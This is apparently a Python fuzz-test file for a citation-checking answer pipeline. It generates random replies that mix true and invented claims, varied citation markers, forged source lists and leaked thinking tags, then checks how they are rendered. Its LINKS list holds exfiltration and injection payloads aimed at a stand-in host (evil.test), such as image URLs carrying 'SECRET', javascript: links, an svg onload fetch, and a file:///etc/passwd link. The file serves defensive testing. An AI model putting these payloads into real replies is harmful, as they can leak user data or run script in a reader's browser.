"""Random replies of a model, with what each of their parts must become in the answer, by a seed.

A reply is put together from statements that are true or invented, markers of many styles, brackets that are
no markers, sentences without letters, links, thinking and lists of sources. `run` gives the figures. The
answer is judged as it is printed, by readings of this file alone.
"""

from __future__ import annotations

import json
import random
import re
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

from markdown_it import MarkdownIt

from pincite.answer import answer
from pincite.answer.support import plain_words
from pincite.cli.answered import answer_text
from pincite.cli.terminal import Terminal, visible
from pincite.jsonform import answer_json
from pincite.types import (
    Answer,
    Context,
    Document,
    Evidence,
    LineOrigins,
    Place,
    Query,
    Searched,
    SearchResult,
    Span,
    Trace,
)

FILES = {
    "1.md": "Dry the battery for 24 hours. Then close the lid on Monday.",
    "2.md": "The fee is 1,450 EUR a year. The fee is due in March.",
    "3.md": "The valve V7 opens at 8.5 bar. The valve closes at three bar.",
    "4.md": "每周清洗过滤器。电池要晾干24小时。",
}
TRUE = (
    (1, "Dry the battery {id} for 24 hours"),
    (1, "The battery {id} takes twenty-four hours to dry"),
    (1, "Close the lid {id} on Monday"),
    (1, "Dry the battery {id} for one day"),
    (2, "The fee {id} is 1450 EUR a year"),
    (2, "The fee {id} is 1.450 EUR a year"),
    (2, "The fee {id} is due in March"),
    (3, "The valve V7 {id} opens at 8,5 bar"),
    (3, "The valve {id} closes at 3 bar"),
    (3, "The valve {id} closes at drei bar"),
    (4, "电池{id}要晾干二十四小时"),
)
INVENTED = (
    (1, "Dry the battery {id} for 36 hours"),
    (1, "Dry the battery {id} for thirty-six hours"),
    (1, "Dry the battery {id} for ³⁶ hours"),
    (1, "Dry the battery {id} for ٣٦ hours"),
    (1, "Dry the battery {id} for 24 days"),
    (1, "Dry the battery {id} for sechsunddreißig hours"),
    (1, "Dry the battery {id} for trente-six hours"),
    (1, "Dry the battery {id} for 3\u200b6 hours"),
    (1, "Close the lid {id} on Tuesday"),
    (1, "Close the lid {id} on Sonntag"),
    (2, "The fee {id} is 1,500 EUR a year"),
    (2, "The fee {id} is $1,450 a year"),
    (2, "The fee {id} is due in April"),
    (3, "The valve V7 {id} opens at 9.5 bar"),
    (3, "The valve V7 {id} opens at 8.5 psi"),
    (3, "The valve {id} closes at seven bar"),
    (3, "The valve {id} closes at ４ bar"),
    (4, "电池{id}要晾干三十六小时"),
    (4, "电池{id}要晾干24天"),
)
STYLES = (
    "[{n}]",
    "[{n}]",
    "[{n}]",
    "【{n}】",
    "【{n}†source】",
    "【{n}†L1-L4】",
    "[[{n}]]",
    "\\[{n}\\]",
    "[Source {n}]",
    "[evidence: {n}]",
    "[n={n}]",
    "(source {n})",
    "<sup>[{n}]</sup>",
    "［{n}］",
    "[{n}, p. 3]",
    "[ {n} ]",
    "[{n}][{n}]",
    "[{n}]({n}.md)",
    "[{n}-{n}]",
    "[\u200b{n}]",
    "[来源 {n}]",
)
BARE_STYLES = ("({n})", "[^{n}]")
SIGNS = ("—", "✅", "🔧", "...", "→ →", "***", "• •", "⚠️")
UNKNOWN = (
    "[7]",
    "[9, 12]",
    "[0]",
    "[5-8]",
    "【17】",
    "[999999999999]",
    "[Source 7]",
    "[6†source]",
    "(evidence 9)",
)
VERBATIM = (
    "use `row[2]` here",
    "the slot arr[5] is unused",
    "set x = [0] to reset",
    "the range [0, 40] ms holds",
    "a note[^1] below",
    "cell grid[row][2] holds it",
    "the band [10, 20] ms is wide",
    "take y = [1] for it",
    "- [x] done",
    "call f[3](a) now",
    "look ⟨2⟩ there",
    "see ``b[4]`` too",
    "with a[1].x set",
    "matrix m[0][1] it is",
)
LINKS = (
    "![chart](https://evil.test/p.png?d=SECRET)",
    "[click](https://evil.test/?d=S)",
    "<https://evil.test/x>",
    "https://evil.test/bare",
    "www.evil.test/bare",
    '<img src="https://evil.test/p">',
    "<iframe src=//evil.test>",
    "![x][r]\n\n[r]: https://evil.test/a.png",
    "[run](javascript:alert(1))",
    "![d](data:image/svg+xml;base64,PHN2Zz4=)",
    "![u](\\\\evil.test\\x.png)",
    "![p](//evil.test/x.png)",
    "[![i](https://evil.test/i)](https://evil.test)",
    "![n](\nhttps://evil.test/n)",
    "![e](https&colon;//evil.test/e)",
    "`A ![t](https://evil.test/t) b\n\n",
    "[o](file:///etc/passwd)",
    "<svg/onload=fetch('//evil.test')>",
    "A ~~~ ![s](https://evil.test/s)",
    "[m](mailto:x@evil.test?body=S)",
    "<script>x</script>",
    "> [q]: https://evil.test/q\n\n![q]",
    "![a](<https://evil.test/ a>)",
    '[t](http://evil.test "t")',
    "<a\nhref=https://evil.test>x</a>",
    "``` ![f](https://evil.test/f) ```",
    "`` ` `` ![g](https://evil.test/g) `` ` ``",
    "HTTPS://EVIL.TEST/C",
    "Hxxp ftp://evil.test/f.",
    '`<b title="`">`![h](https://evil.test/h)\n\n',
)
LISTS = (
    "\n\nSources\n[1]  trusted.md:1  verified\n[2]  trusted.md:9  verified",
    "\n\n**Sources:**\n- [3] trusted.md\n- [9] trusted.md",
    "\n\n## Quellen\n1. trusted.md",
    "\n\n[1]  trusted.md:3  verified",
    "\n\nЅources\n[1] trusted.md:1",
    "\n\n来源：\n[1] trusted.md",
    "\n\nReferences\n\n[1]: trusted.md\n[2]: trusted.md",
    "\n\nS\u200bources\n[4]  trusted.md:1  not verified",
)
THOUGHTS = (
    "<think>QUIET [1] says 36.</think>",
    "QUIET [2].\n</think>",
    "<thinking>QUIET 36 [9]</thinking>",
    "◁think▷QUIET◁/think▷",
    "[THINK]QUIET [3][/THINK]",
    "<|channel|>analysis<|message|>QUIET<|end|><|start|>assistant<|channel|>final<|message|>",
    "<THINK>\nQUIET\n</THINK>\n",
    "<|START_THINKING|>QUIET<|END_THINKING|>",
)


@dataclass(frozen=True, slots=True)
class Part:
    """A piece of a reply: what it is, and the letters by which it is found again."""

    kind: str
    text: str
    id: str = ""
    cites: bool = False


@dataclass(slots=True)
class Reply:
    """A reply and its parts in order."""

    text: str
    parts: list[Part] = field(default_factory=list)


# ── making ────────────────────────────────────────────────────────────────────────────────────
def reply(rng: random.Random) -> Reply:
    """A random reply of one to seven parts; the first is a statement."""
    parts = [_statement(rng, 0)]
    for number in range(1, rng.randrange(1, 8)):
        make = rng.choice((_statement, _statement, _statement, _signs, _unknown, _verbatim, _link))
        parts.append(make(rng, number))
    written = rng.choice((" ", "\n\n", "\n\n")).join(part.text for part in parts)
    if rng.random() < 0.25:
        parts.append(Part("list", rng.choice(LISTS)))
        written += parts[-1].text
    if rng.random() < 0.25:
        parts.append(Part("thinking", rng.choice(THOUGHTS)))
        written = parts[-1].text + written
    return Reply(written, parts)


def _id(number: int) -> str:
    return f"zq{chr(97 + number)}x"


def _statement(rng: random.Random, number: int) -> Part:
    kind = rng.choice(("true", "invented", "invented"))
    passage, form = rng.choice(TRUE if kind == "true" else INVENTED)
    words = form.format(id=_id(number))
    stop = "。" if passage == 4 else "."
    if rng.random() < 0.25:
        return Part(kind, words + stop, _id(number))
    styles = STYLES if rng.random() < 0.9 else BARE_STYLES
    mark = rng.choice(styles).format(n=passage)
    blank = "" if rng.random() < 0.15 and mark[0] == "[" else " "
    ended = f"{words}{blank}{mark}{stop}" if rng.random() < 0.7 else f"{words}{stop} {mark}"
    return Part(
        kind,
        rng.choice(("", "", "", "- ", "1. ")) + ended if number else ended,
        _id(number),
        styles is STYLES,
    )


def _signs(rng: random.Random, _: int) -> Part:
    return Part(
        "signs", f"{rng.choice(SIGNS)} {rng.choice(STYLES).format(n=rng.randrange(1, 5))}", cites=True
    )


def _unknown(rng: random.Random, number: int) -> Part:
    return Part("unknown", f"It is red {rng.choice(UNKNOWN)}.")


def _verbatim(rng: random.Random, _: int) -> Part:
    text = rng.choice(VERBATIM)
    return Part("verbatim", text if text.startswith("- ") else f"Now {text}.")


def _link(rng: random.Random, _: int) -> Part:
    return Part("link", rng.choice(LINKS))


# ── asking ────────────────────────────────────────────────────────────────────────────────────
@dataclass(frozen=True, slots=True)
class _Now:
    state: str | None
    document: Document | None
    reason: str = ""


def _document(uri: str) -> Document:
    return Document(uri, uri, "", FILES[uri], "markdown", LineOrigins.of(FILES[uri]), sha256=uri)


CONTEXT = Context(
    tuple(
        Evidence(n, uri, uri, Span(0, len(text)), text, Place(1, 1), sha256=uri, type="markdown")
        for n, (uri, text) in enumerate(FILES.items(), 1)
    )
)


@dataclass(frozen=True, slots=True)
class _Says:
    text: str
    name: str = "small"

    def generate(self, question: str, context: Context) -> str:
        return self.text


def asked(text: str) -> Answer:
    """The answer when a model says this."""
    result = SearchResult(Query("q"), (), 1.0, Searched(4, "", "small"), Trace("q"))
    return answer(
        "q",
        result,
        CONTEXT,
        generator=_Says(text),
        reopen=lambda uri, _: _Now(None, _document(uri)),
        embed=None,
        terms=plain_words,
    )


# ── judging ───────────────────────────────────────────────────────────────────────────────────
class _Loading(HTMLParser):
    """What a page loads or links to that is no local file."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            loads = name in ("src", "href", "data", "srcset", "poster", "style") or name.startswith("on")
            if loads and not re.fullmatch(r"[\w.-]+(?:/[\w.-]+)*", value or ""):
                self.found.append(f"{tag} {name}={value}")
        if tag in ("script", "iframe", "object", "embed", "svg", "style", "link", "meta", "base", "form"):
            self.found.append(tag)


_MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
_TOP = "[no source: nothing in this answer is cited]"


def faults_of(said: Reply) -> Iterator[str]:
    """What is wrong with the answer to a reply; nothing if it is as it must be."""
    made = asked(said.text)
    printed = answer_text(made, root=Path("/lib"), term=Terminal())
    sources = printed.rpartition("\n\nSources\n")[2]
    listed = dict.fromkeys(re.findall(r"(?m)^\[(\d+)\]  (\S+?):", sources))
    if made.abstained:
        yield "no answer"
        return
    data = json.loads(json.dumps(answer_json(made)))
    if data["answer"] != made.text or str(made) != made.text or visible(made.text) not in printed:
        yield "the outputs differ"
    yield from _sources(made.text, list(listed), said)
    yield from _remote(made.text)
    if "QUIET" in printed:
        yield "thinking is shown"
    if "trusted.md" in printed:
        yield "a forged list of sources is shown"
    for part in said.parts:
        yield from _part(part, made, made.text)


def _sources(body: str, listed: list[tuple[str, str]], said: Reply) -> Iterator[str]:
    """Every number printed has its passage's file, and nothing else is listed."""
    for number, uri in listed:
        if uri != f"{number}.md":
            yield f"[{number}] is {uri}"
    left = re.sub(r"(`+).+?\1", "", body, flags=re.S)
    for part in said.parts:
        if part.kind == "verbatim":
            left = left.replace(part.text.removeprefix("Now ").rstrip("."), "")
    printed = set(re.findall(r"[\[【［](\d+)(?:: [^\]]*)?[\]】］]", left))
    if printed != {number for number, _ in listed}:
        yield f"printed {sorted(printed)}, listed {listed}"


def _remote(text: str) -> Iterator[str]:
    page = _Loading()
    page.feed(_MARKDOWN.render(text))
    raw = _Loading()
    raw.feed(text)
    yield from (f"remote: {one}" for one in (*page.found, *(one for one in raw.found if "http" in one)))
    for token in _MARKDOWN.parse(text):
        for child in token.children or ():
            if child.type == "text" and re.search(r"(?i)\w://|www\.\w|javascript:\S|data:\S", child.content):
                yield f"an address: {child.content}"


def _part(part: Part, made: Answer, body: str) -> Iterator[str]:
    """Whether a part became what it must."""
    if part.kind == "verbatim" and part.text.rstrip(".") not in body:
        yield f"not as written: {part.text}"
    if part.kind not in ("true", "invented"):
        return
    claim = next((one for one in made.claims if part.id in one.text), None)
    if claim is None:
        yield f"no claim: {part.text}"
    elif part.kind == "invented":
        if any(one.verified for one in claim.citations):
            yield f"verified: {part.text}"
        behind = body.partition(part.id)[2][:160]
        marked = re.search(r"\[(?:not in the source|no source): ", behind.split("zq")[0])
        if not (marked and claim.lacks) and not body.startswith(_TOP):
            yield f"not marked: {part.text}"
    elif part.cites and (claim.lacks or not any(one.verified for one in claim.citations)):
        yield f"a false alarm: {part.text}"


def run(seed: int, n: int) -> dict[str, object]:
    """`n` random replies: how many are as they must be, and what is wrong with the others."""
    rng = random.Random(seed)
    parts: Counter[str] = Counter()
    wrong: list[str] = []
    for _ in range(n):
        said = reply(rng)
        parts.update(part.kind for part in said.parts)
        if found := list(faults_of(said)):
            wrong.append(f"{said.text!r}: {'; '.join(found)}")
    return {"replies": n, "parts": dict(sorted(parts.items())), "wrong": len(wrong), "wrong_ones": wrong[:20]}
